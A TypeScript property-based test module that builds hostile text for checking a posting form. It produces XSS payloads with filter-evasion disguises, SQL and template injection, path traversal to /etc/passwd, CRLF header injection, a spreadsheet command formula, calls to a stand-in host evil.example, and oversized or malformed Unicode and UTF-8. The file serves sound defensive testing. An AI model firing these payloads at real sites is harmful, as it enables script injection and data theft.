import fc from 'fast-check';

/*
 * What somebody may write who wishes a page ill: markup and script in every disguise, letters that turn the line round, words
 * without an end. Made here, by kinds: a list of known attacks grows old, a rule for making them less so.
 */

const events = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart', 'onbegin'];
const tags = [
  'script',
  'img',
  'svg',
  'iframe',
  'body',
  'input',
  'details',
  'math',
  'style',
  'link',
  'meta',
  'base',
  'object',
  'form',
];
const calls = ['alert(1)', "fetch('//evil.example')", 'document.write(1)', 'eval(name)', 'window.hostile=1'];
const schemes = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'data:text/html,', 'vbscript:', '\u0001javascript:'];

/** Letters written another way, as filters are slipped past: case, entities, escapes, white space inside. */
const disguised = (text: string) =>
  fc
    .array(fc.constantFrom('same', 'same', 'same', 'upper', 'entity', 'hex', 'escape', 'gap', 'wide'), {
      minLength: text.length,
      maxLength: text.length,
    })
    .map((ways) => [...text].map((letter, n) => disguise[ways[n] ?? 'same']!(letter)).join(''));
const code = (letter: string) => letter.codePointAt(0)!;
const disguise: Record<string, (letter: string) => string> = {
  same: (letter) => letter,
  upper: (letter) => letter.toUpperCase(),
  entity: (letter) => `&#${code(letter)};`,
  hex: (letter) => `&#x${code(letter).toString(16)}`,
  escape: (letter) => `\\u${code(letter).toString(16).padStart(4, '0')}`,
  gap: (letter) => `${letter}\t`,
  wide: (letter) => (letter > ' ' && letter <= '~' ? String.fromCodePoint(code(letter) + 0xfee0) : letter),
};

const call = fc.constantFrom(...calls);
const markup = fc.oneof(
  fc
    .tuple(fc.constantFrom(...tags), fc.constantFrom(...events), call)
    .map(([tag, on, act]) => `<${tag} src=x ${on}=${act}>`),
  fc.tuple(fc.constantFrom(...tags), call).map(([tag, act]) => `</${tag}><${tag}>${act}</${tag}>`),
  fc.tuple(fc.constantFrom(...schemes), call).map(([scheme, act]) => `<a href="${scheme}${act}">x</a>`),
  fc
    .tuple(fc.constantFrom('"', "'", '`', '">', "'>", '-->', ']]>', '*/'), call)
    .map(([end, act]) => `${end}<svg/onload=${act}>`),
  fc
    .tuple(fc.constantFrom(...tags), fc.constantFrom(...events), call)
    .chain(([tag, on, act]) => disguised(`<${tag} ${on}=${act}>`)),
  fc.tuple(fc.constantFrom(...schemes), call).chain(([scheme, act]) => disguised(`<a href=${scheme}${act}>`)),
  // One inside the other, so that whoever takes the inner one out makes the outer one.
  fc
    .tuple(fc.constantFrom(...tags), fc.nat({ max: 5 }), call)
    .map(([tag, at, act]) => `<${tag.slice(0, at)}<${tag}>${tag.slice(at)}>${act}</${tag}>`),
  fc.constantFrom(
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<<script>alert(1)//<</script>',
    '<img src=x onerror="window.hostile=1">',
    '<style>*{display:none}</style>',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<template><script>1</script></template>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '&#60;script&#62;alert(1)&#60;/script&#62;',
    '{{constructor.constructor("alert(1)")()}}',
    '${alert(1)}',
    '<%= 7*7 %>',
    'hx-on:click="alert(1)"',
    '<div hx-get="/me" hx-trigger="load">',
  ),
);
const shapes = fc.oneof(
  fc.constantFrom(
    'x'.repeat(7_900),
    'ø'.repeat(3_000),
    '👩‍❤️‍💋‍👨'.repeat(400),
    'Z̸̨̛̖̹̲̥̺̤̆̓͊̈́̊̽̚a̵l̴g̷o̶'.repeat(60),
    '\u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u05e2\u05d1\u05e8\u05d9\u05ea'.repeat(40),
    '\ufeff\u200b\u200c\u200d\u2060'.repeat(100),
    '\u0300'.repeat(500),
    '﷽'.repeat(200),
    '- '.repeat(2_000),
    '> '.repeat(2_000),
    '*'.repeat(4_000),
    '\n'.repeat(3_000),
    '\t'.repeat(2_000),
    "'; DROP TABLE post; --",
    '../../../../etc/passwd',
    '%00%0d%0aSet-Cookie:x=1',
    '=cmd|calc!A0',
    'NaN undefined null [object Object]',
  ),
  // Marks on marks, switches of direction, pictures without an end: as many and of whatever kind.
  fc
    .tuple(
      fc.string({ maxLength: 20 }),
      fc.array(fc.integer({ min: 0x300, max: 0x36f }), { minLength: 20, maxLength: 120 }),
    )
    .map(([text, marks]) => [...text].map((letter) => letter + String.fromCodePoint(...marks)).join('')),
  fc
    .array(fc.constantFrom('\u200e', '\u200f', '\u061c', '\u202e', '\u2066', 'abc', 'שלום', 'سلام', '<b>', '123'), {
      maxLength: 30,
    })
    .map((parts) => parts.join('')),
  fc
    .array(fc.constantFrom('😀', '👨‍👩‍👧‍👦', '🏳️‍🌈', '🇳🇴', '👍🏿', '\u{e0041}', '\u200d'), { minLength: 50, maxLength: 900 })
    .map((parts) => parts.join('')),
  fc.integer({ min: 500, max: 7_900 }).map((length) => 'w'.repeat(length)),
  fc.string({ unit: 'grapheme', maxLength: 400 }),
  fc.string({ unit: 'binary', maxLength: 200 }),
);

/** One text. What no database can hold (a lone half of a character, a NUL, switches of direction) is among it: it has to be refused. */
export const hostileText = fc
  .array(
    fc.oneof(
      { arbitrary: markup, weight: 3 },
      { arbitrary: shapes, weight: 1 },
      fc.constantFrom('\n', '\n\n', ' ', '* ', '> '),
    ),
    {
      minLength: 1,
      maxLength: 6,
    },
  )
  .map((parts) => parts.join('').slice(0, 7_990));

/** More than a post may hold, as one word: it has to be refused, whole, and be back in its form. */
export const endlessWords = ['x'.repeat(100_000), '👩‍❤️‍💋‍👨'.repeat(9_000), '<b>'.repeat(33_000), 'a\u0301'.repeat(50_000)];

/** Bytes that are no UTF-8: cut short, too long, halves of pairs, beyond the last character. */
export const brokenBytes = [
  [0xff],
  [0xc3],
  [0xe2, 0x82],
  [0xc0, 0xaf],
  [0xed, 0xa0, 0x80],
  [0xf4, 0x90, 0x80, 0x80],
  [0x80, 0x80],
  [0xf0, 0x9f, 0x98],
].map((bytes) => Buffer.from(bytes));
